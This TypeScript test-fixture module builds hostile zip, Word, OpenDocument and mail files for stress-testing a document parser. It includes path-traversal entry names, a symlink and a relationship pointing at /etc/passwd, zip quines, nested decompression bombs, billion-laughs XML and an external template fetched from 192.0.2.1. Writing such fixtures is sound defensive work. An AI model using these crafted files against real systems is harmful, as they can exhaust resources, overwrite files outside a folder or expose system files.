import type { HostileFile } from './documents.ts'
import { laughing } from './documents.ts'
import { repeatedBytes, zipOf, type ZipEntry } from './zip.ts'

const TYPES: ZipEntry = {
  name: '[Content_Types].xml',
  bytes:
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
}
const RELATIONS: ZipEntry = {
  name: '_rels/.rels',
  bytes:
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
}
const OPEN = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
const CLOSE = '</w:body></w:document>'
const paragraph = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`

/** A Word document with this body, and with additional entries. */
export function docxOf(body: string, more: readonly ZipEntry[] = []): Uint8Array {
  return zipOf([TYPES, RELATIONS, { name: 'word/document.xml', bytes: OPEN + body + CLOSE }, ...more])
}

const ODF =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'

/** An OpenDocument text with this content. */
export function odtOf(content: string, more: readonly ZipEntry[] = []): Uint8Array {
  return zipOf([
    { name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text', isStored: true },
    { name: 'content.xml', bytes: content },
    ...more,
  ])
}
const odtBody = (body: string) =>
  `<office:document-content ${ODF}><office:body><office:text>${body}</office:text></office:body></office:document-content>`

const MB = 1024 * 1024
const bomb = (megabytes: number): ZipEntry => ({
  name: 'word/document.xml',
  ...repeatedBytes(megabytes, 0x20),
})
const small: ZipEntry = { name: 'word/document.xml', bytes: ' '.repeat(100) }
const named = (name: string | Uint8Array): ZipEntry => ({ name, bytes: 'words' })

/** Names that would escape from the folder into which an archive is unpacked, or deceive their reader. */
export const evilNames: readonly (string | Uint8Array)[] = [
  '../../outside.xml',
  '..\\..\\outside.xml',
  '/etc/outside.xml',
  'C:\\outside.xml',
  'C:outside.xml',
  '\\\\server\\share\\outside.xml',
  '//server/share/outside.xml',
  'a\0b.xml',
  'word/document.xml\0.png',
  'invoice\u202excod.xml',
  '__proto__',
  'constructor.xml',
  '',
  '.',
  'con.xml',
  'a'.repeat(65_535),
  `${'a/'.repeat(30_000)}x.xml`,
  Buffer.from([0xff, 0xfe, 0x80, 0x2e, 0x78, 0x6d, 0x6c]),
]

/**
 * A zip that contains itself: its stored entry is the zip up to that point, in which a recursive reader would never
 * end.
 */
function quine(): Uint8Array {
  let inner: Uint8Array = zipOf([named('seed')])
  for (let layer = 0; layer < 200; layer++) inner = zipOf([{ name: 'inner.zip', bytes: inner }])
  return inner
}

/** Zips of zips of bombs: each layer contains the next many times, as an entry that claims to be small. */
function bombsInBombs(): Uint8Array {
  let inner: Uint8Array = zipOf([{ name: 'zeros.txt', bytes: Buffer.alloc(8 * MB, 0x30), declaredSize: 10 }])
  for (let layer = 0; layer < 4; layer++)
    inner = zipOf(Array.from({ length: 16 }, (_, at) => ({ name: `${layer}-${at}.zip`, bytes: inner })))
  return inner
}

/** A mail with this file attached. */
const mailWith = (name: string, bytes: Uint8Array): Uint8Array =>
  Buffer.from(
    `From: a@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nthe words of the mail\r\n--b\r\n` +
      `Content-Type: application/octet-stream; name="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n` +
      `${Buffer.from(bytes).toString('base64')}\r\n--b--\r\n`,
  )

/** A mail in a zip in a mail, and so on. */
function mailsInZips(): Uint8Array {
  let inner: Uint8Array = Buffer.from('From: a@example.org\r\n\r\ninnermost')
  for (let layer = 0; layer < 40; layer++)
    inner = mailWith('mail.zip', zipOf([{ name: 'mail.eml', bytes: inner }]))
  return inner
}

const deepXml = (tag: string, depth: number) => `<${tag}>`.repeat(depth)

/** Zip files, and the office formats that are zip files. */
export const archives: readonly HostileFile[] = [
  { name: 'evil-names.docx', make: () => docxOf(paragraph('words'), evilNames.map(named)) },
  { name: 'evil-names.odt', make: () => odtOf(odtBody('<text:p>words</text:p>'), evilNames.map(named)) },
  { name: 'evil-names.zip', make: () => zipOf(evilNames.map(named)) },
  {
    name: 'symlink.zip',
    make: () => zipOf([{ name: 'link', bytes: '/etc/passwd', isStored: true, mode: 0o120777 }]),
  },
  { name: 'quine.zip', make: quine },
  { name: 'bombs-in-bombs.zip', make: bombsInBombs },
  { name: 'bombs-in-bombs.eml', make: () => mailWith('bombs.zip', bombsInBombs()) },
  { name: 'mails-in-zips.eml', make: mailsInZips },
  {
    name: 'sixty-thousand-entries.zip',
    isLong: true,
    make: () => zipOf(Array.from({ length: 60_000 }, (_, at) => named(`${at}.txt`))),
  },
  { name: 'quine.docx', make: () => docxOf('', [{ name: 'word/embeddings/inner.docx', bytes: quine() }]) },
  { name: 'bomb.docx', make: () => zipOf([TYPES, RELATIONS, bomb(300)]) },
  {
    name: 'bomb-that-says-it-is-small.docx',
    make: () => zipOf([TYPES, RELATIONS, { ...bomb(400), declaredSize: 4096 }]),
  },
  {
    name: 'four-gigabytes-declared.docx',
    make: () => zipOf([TYPES, RELATIONS, { ...small, declaredSize: 0xffffffff, declaredPacked: 0xfffffffe }]),
  },
  {
    name: 'declared-just-below.docx',
    make: () =>
      zipOf([
        TYPES,
        RELATIONS,
        ...Array.from({ length: 4 }, (_, at) => ({
          name: `word/p${at}.xml`,
          bytes: 'x',
          declaredSize: 127 * MB,
          declaredPacked: 0x7fffffff,
        })),
      ]),
  },
  {
    name: 'entries-on-one-another.docx',
    make: () => {
      const bytes = OPEN + paragraph('words ').repeat(4_000) + CLOSE
      const others = Array.from({ length: 4000 }, (_, at) => ({ name: `word/f${at}.xml`, bytes, sameAs: 2 }))
      return zipOf([TYPES, RELATIONS, { name: 'word/document.xml', bytes }, ...others])
    },
  },
  { name: 'half-a-gigabyte.docx', make: () => docxOf(paragraph(randomWords(100)).repeat(200_000)) },
  {
    name: 'sixty-thousand-entries.docx',
    make: () =>
      docxOf(
        '',
        Array.from({ length: 60_000 }, (_, at) => named(`w/${at}.xml`)),
      ),
  },
  { name: 'more-entries-than-said.docx', make: () => zipOf([TYPES, RELATIONS], { declaredEntries: 65_535 }) },
  { name: 'deep.docx', make: () => docxOf(deepXml('w:p', 100_000)) },
  { name: 'deep-tables.docx', make: () => docxOf(deepXml('w:tbl><w:tr><w:tc', 20_000)) },
  {
    name: 'deep-and-closed.docx',
    make: () =>
      docxOf(
        '<w:sdt><w:sdtContent>'.repeat(60_000) +
          paragraph('words') +
          '</w:sdtContent></w:sdt>'.repeat(60_000),
      ),
  },
  { name: 'deep.odt', make: () => odtOf(odtBody(deepXml('text:section', 100_000))) },
  { name: 'blanks.odt', make: () => odtOf(odtBody(`<text:p>a<text:s text:c="2147483647"/>b</text:p>`)) },
  {
    name: 'laughs.docx',
    make: () =>
      zipOf([
        TYPES,
        RELATIONS,
        {
          name: 'word/document.xml',
          bytes: laughing(`${OPEN}<w:p><w:r><w:t>`, `</w:t></w:r></w:p>${CLOSE}`),
        },
      ]),
  },
  {
    name: 'laughs.odt',
    make: () =>
      odtOf(
        laughing(
          `<office:document-content ${ODF}><office:body><office:text><text:p>`,
          '</text:p></office:text></office:body></office:document-content>',
        ),
      ),
  },
  {
    name: 'attributes.docx',
    make: () => docxOf(`<w:p ${Array.from({ length: 200_000 }, (_, at) => `w:a${at}="1"`).join(' ')}/>`),
  },
  {
    name: 'relations-out.docx',
    make: () =>
      docxOf(paragraph('words'), [
        {
          name: 'word/_rels/document.xml.rels',
          bytes:
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" Target="http://192.0.2.1/t.dotm"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes" Target="../../../../etc/passwd"/></Relationships>',
        },
      ]),
  },
  { name: 'sealed.docx', make: () => zipOf([TYPES, { ...small, flags: 0x801 }]) },
  {
    name: 'unknown-method.docx',
    make: () => zipOf([TYPES, RELATIONS, { name: 'word/document.xml', bytes: 'x', method: 99 }]),
  },
  { name: 'nothing.docx', make: () => zipOf([]) },
  {
    name: 'deep.epub',
    make: () => zipOf([{ name: 'mimetype', bytes: 'application/epub+zip', isStored: true }, bomb(256)]),
  },
  {
    name: 'bomb.xlsx',
    make: () =>
      zipOf([
        { ...TYPES, bytes: String(TYPES.bytes).replace('wordprocessingml', 'spreadsheetml') },
        { name: 'xl/workbook.xml', ...repeatedBytes(256, 0) },
      ]),
  },
]

function randomWords(count: number): string {
  return Array.from({ length: count }, (_, at) => ((at * 2654435761) >>> 0).toString(36)).join(' ')
}
